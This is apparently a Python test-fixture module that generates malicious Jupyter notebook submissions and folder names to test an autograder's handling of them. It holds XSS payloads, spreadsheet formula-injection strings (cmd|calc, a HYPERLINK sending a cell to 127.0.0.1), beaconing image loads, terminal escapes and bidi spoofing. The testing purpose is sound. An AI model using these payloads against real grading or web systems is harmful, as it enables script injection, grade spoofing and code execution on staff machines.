"""Hostile notebooks for 04_backward_rules, and folders: what acts on those who look.

Answers that are right, with markup where staff read: the written reason, ids, outputs, comments
in code, the name of the student's folder. A generator takes the folder to write into and the
notebook, solved.
"""

import copy
import json
from pathlib import Path
from typing import Any

NAME = "04_backward_rules.ipynb"
REASON = "answer-why-a-rule-adds"
Notebook = dict[str, Any]

# What the student's folder is called, for those that attack by its name.
FOLDERS = {
    "folder_of_markup": "zoe<img src=x onerror=alert(1)>",
    "folder_of_quotes": 'zoe" onmouseover="alert(1)',
    "folder_of_control_characters": "zoe\x1b]0;owned\x07\x1b[2J\x1b[1A",
    "folder_of_a_new_line": "zoe\n004-adam   30 of 30 points",
    "folder_of_directions": "zoe \u202e03 fo 03",
    "folder_of_a_formula": "=cmd|' C calc'!A0",
    "folder_of_another_formula": "@SUM(1+1)*cmd|' C calc'!A0",
    "folder_of_markdown": "[zoe](javascript:alert(1))",
}

REFUSED = [name for key, name in FOLDERS.items() if key != "folder_of_markdown"]


def _write(folder: Path, notebook: Notebook) -> Path:
    file = folder / NAME
    file.write_text(json.dumps(notebook), encoding="utf-8")
    return file


def _reason(folder: Path, notebook: Notebook, text: str) -> Path:
    """Hand in a written reason."""
    cells = [
        {**cell, "source": f"Each use adds a path.\n\n{text}\n"} if cell["id"] == REASON else cell
        for cell in notebook["cells"]
    ]
    return _write(folder, {**notebook, "cells": cells})


def links(folder, notebook):
    """Links to scripts and to pages elsewhere, in every way in which Markdown writes a link.

    family: markup
    expect: honest
    start: solved
    gain: a script in the browser of whoever may change grades
    """
    return _reason(
        folder,
        notebook,
        "[x](javascript:alert(1)) [x](  java&#x73;cript:alert(1)) [y][1] [z][] "
        "<javascript:alert(1)>"
        " [x](data:text/html;base64,PHNjcmlwdD4=) https://example.com www.example.com\n\n"
        "[1]: javascript:alert(2)\n[z]: vbscript:alert(3)\n[w]:\n  http://example.com 'title'",
    )


def pictures(folder, notebook):
    """Pictures that load from elsewhere, and so tell who looks and when.

    family: markup
    expect: honest
    start: solved
    gain: a request from the grader's browser
    """
    return _reason(
        folder,
        notebook,
        "![x](http://127.0.0.1/x.png) ![x][p] <img src=//127.0.0.1/y onerror=alert(1)>"
        " <image src=x> <picture><source srcset=//127.0.0.1/z></picture>"
        " <video poster=//127.0.0.1/v></video> <svg onload=alert(1)>\n\n[p]: //127.0.0.1/p.png",
    )


def pages_and_scripts(folder, notebook):
    """Frames, scripts, styles and forms, also cut up, nested or in capitals.

    family: markup
    expect: honest
    start: solved
    gain: a script, or a form that looks like ours
    """
    return _reason(
        folder,
        notebook,
        "<script>alert(1)</script><SCRIPT SRC=//127.0.0.1/s></SCRIPT><scr<script>ipt>alert(1)\n\n"
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//127.0.0.1/o></object>'
        "<style>*{background:url(//127.0.0.1/b)}</style><form action=//127.0.0.1/f><input></form>"
        "<base href=//127.0.0.1/><meta http-equiv=refresh content=0;url=//127.0.0.1>"
        "<link rel=stylesheet href=//127.0.0.1/c><math><mi xlink:href=javascript:alert(1)>x</mi>"
        "<!-- --><script>alert(2)</script><?x ?><details open ontoggle=alert(1)>",
    )


def formulas(folder, notebook):
    """Formulas that link, load, style and change what other formulas mean.

    family: markup
    expect: honest
    start: solved
    gain: a link or a picture by way of MathJax
    """
    return _reason(
        folder,
        notebook,
        r"$\href{javascript:alert(1)}{x}$ $$\href {http://127.0.0.1}{y}$$ \(\url{http://127.0.0.1}\)"
        r" \[\require{html}\class{x}{y}\] $\style{background:url(//127.0.0.1/b)}{z}$ $\cssId{a}{b}$"
        r" $\def\frac{\href{javascript:alert(1)}}$ $\let\x\href \x{javascript:alert(2)}{x}$"
        r" $\newcommand{\y}{\href}\y{javascript:alert(3)}{y}$ $\unicode{x3c}$"
        r" $\mmlToken{mi}[href=//x]x$ $\includegraphics{//127.0.0.1/i}$ $\HREF{x}{y}$"
        r" $\csname href\endcsname{javascript:x}{y}$"
        "\n\n\\begin{align}\\href{javascript:alert(1)}{x}\\end{align}",
    )


def entities(folder, notebook):
    """Spells markup and commands by entities, by numbers and by names.

    family: markup
    expect: honest
    start: solved
    gain: markup that only the browser reads
    """
    return _reason(
        folder,
        notebook,
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"
        " &#x3c;svg/onload=alert(1)&#x3e; [x](&#106;avascript&colon;alert(1))"
        " $&#92;href{javascript:alert(1)}{x}$ $\\&#104;ref{x}{y}$ &bsol;href{x}{y}"
        " [x](javascript&NewLine;:alert(1)) &amp;lt;b&amp;gt;",
    )


def control_characters(folder, notebook):
    """Escapes of a terminal in answer, code and metadata: titles, colours, what was written above.

    family: markup
    expect: honest
    start: solved
    gain: a line on a terminal that looks like ours
    """
    escape = (
        "\x1b[2J\x1b[1;1H\x1b]0;owned\x07\x1b]8;;http://127.0.0.1\x07x\x1b]8;;\x07\x9b31m\x08\x00"
    )
    notebook = copy.deepcopy(notebook)
    notebook["metadata"]["title"] = escape
    notebook["cells"].insert(0, _code(f"# {escape.replace(chr(0), '')}\nprint({escape!r})\n"))
    return _reason(folder, notebook, f"{escape} 30 of 30 points")


def formulas_of_tables(folder, notebook):
    """Begins every line of its answer as a table's formula begins.

    family: markup
    expect: honest
    start: solved
    gain: a command, once the answer stands in a table
    """
    return _reason(
        folder,
        notebook,
        "=cmd|'/C calc'!A0\n+cmd|'/C calc'!A0\n-2+3+cmd|'/C calc'!A0\n@SUM(1+1)\n"
        '\t=HYPERLINK("http://127.0.0.1?x="&A1,"see")\n%0A=1+1',
    )


def directions(folder, notebook):
    """Turns the direction of what is read, in the answer and in a comment of the code.

    family: markup
    expect: flagged
    start: solved
    gain: code and a reason that read otherwise than they are
    """
    turned = "\u202e0 fo 03 :erocs\u202c \u2066right\u2069\u200f"
    notebook = copy.deepcopy(notebook)
    for cell in notebook["cells"]:
        if cell["id"] == "solve-mul-rule-mul":
            cell["source"] = f"# {turned}\n{''.join(cell['source'])}"
    return _reason(folder, notebook, turned)


def ids_and_attachments(folder, notebook):
    """Writes markup into ids, metadata, attachments and a link to one of these.

    family: markup
    expect: honest
    start: solved
    gain: markup where nobody expects a student's text
    """
    evil = '"><script>alert(1)</script>'
    notebook = copy.deepcopy(notebook)
    notebook["metadata"]["kernelspec"] = {"name": evil, "display_name": evil}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {evil: evil}}
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"][evil] = evil
        if cell["id"] == REASON:
            cell["attachments"] = {"x.svg": {"image/svg+xml": f"<svg>{evil}</svg>"}}
        elif number % 2:
            cell["id"] = f"{evil}{number}"  # it is still known by nbgrader's id
    return _reason(folder, notebook, "![x](attachment:x.svg) [x](#top) [x](files/x.html)")


def outputs(folder, notebook):
    """Keeps outputs with scripts, pictures, links, formulas and escapes below its code.

    family: markup
    expect: honest
    start: solved
    gain: a script in what staff open
    """
    notebook = copy.deepcopy(notebook)
    data = {
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "text/markdown": "[x](javascript:alert(1))",
        "text/latex": r"$\href{javascript:alert(1)}{x}$",
        "image/svg+xml": "<svg onload=alert(1)/>",
        "text/plain": "\x1b[2J30 of 30",
    }
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": data, "metadata": {}},
                {"output_type": "stream", "name": "stdout", "text": "\x1b[2J<script>alert(1)"},
            ]
    return _write(folder, notebook)


def raised_markup(folder, notebook):
    """Raises texts of markup where a rule is due, for comment, terminal and page.

    family: markup
    expect: partial: the other rules are right
    start: solved
    gain: markup in what the student's report, or its reader, shows
    """
    notebook = copy.deepcopy(notebook)
    raised = (
        "@method_of(Value)\n"
        "def __mul__(self, other):\n"
        "    raise ValueError('```\\n<script>alert(1)</script> [x](javascript:alert) "
        "$\\\\href{x}{y}$ \\x1b[2J \\u202e')\n"
    )
    for cell in notebook["cells"]:
        if cell["id"] == "solve-mul-rule-mul":
            cell["source"] = raised
    return _write(folder, notebook)


def folder_of_markup(folder, notebook):
    """Comes in a folder whose name is a picture with a script.

    family: markup
    expect: withheld
    start: solved
    gain: a script wherever the student's id is shown
    """
    return _write(folder, notebook)


def folder_of_quotes(folder, notebook):
    """Comes in a folder whose name closes an attribute and opens another.

    family: markup
    expect: withheld
    start: solved
    gain: a script wherever the student's id is shown
    """
    return _write(folder, notebook)


def folder_of_control_characters(folder, notebook):
    """Comes in a folder whose name is escapes of a terminal.

    family: markup
    expect: withheld
    start: solved
    gain: a terminal that shows what the name says
    """
    return _write(folder, notebook)


def folder_of_a_new_line(folder, notebook):
    """Comes in a folder whose name begins a line that looks like another student's.

    family: markup
    expect: withheld
    start: solved
    gain: a line in summary or table that nobody earned
    """
    return _write(folder, notebook)


def folder_of_directions(folder, notebook):
    """Comes in a folder whose name turns the direction of its line.

    family: markup
    expect: withheld
    start: solved
    gain: a line of the summary that reads otherwise than it is
    """
    return _write(folder, notebook)


def folder_of_a_formula(folder, notebook):
    """Comes in a folder whose name is a formula that starts a program.

    family: markup
    expect: withheld
    start: solved
    gain: a program on the machine of whoever opens nbgrader's export as a table
    """
    return _write(folder, notebook)


def folder_of_another_formula(folder, notebook):
    """Comes in a folder whose name is a formula that begins with an at sign.

    family: markup
    expect: withheld
    start: solved
    gain: a program on the machine of whoever opens nbgrader's export as a table
    """
    return _write(folder, notebook)


def folder_of_markdown(folder, notebook):
    """Comes in a folder whose name is a link, for who shows names as Markdown.

    family: markup
    expect: honest
    start: solved
    gain: a link to a script
    """
    return _write(folder, notebook)


def _code(source: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": "mine",
        "metadata": {},
        "outputs": [],
        "source": source,
    }


GENERATORS = (
    links,
    pictures,
    pages_and_scripts,
    formulas,
    entities,
    control_characters,
    formulas_of_tables,
    directions,
    ids_and_attachments,
    outputs,
    raised_markup,
    folder_of_markup,
    folder_of_quotes,
    folder_of_control_characters,
    folder_of_a_new_line,
    folder_of_directions,
    folder_of_a_formula,
    folder_of_another_formula,
    folder_of_markdown,
)
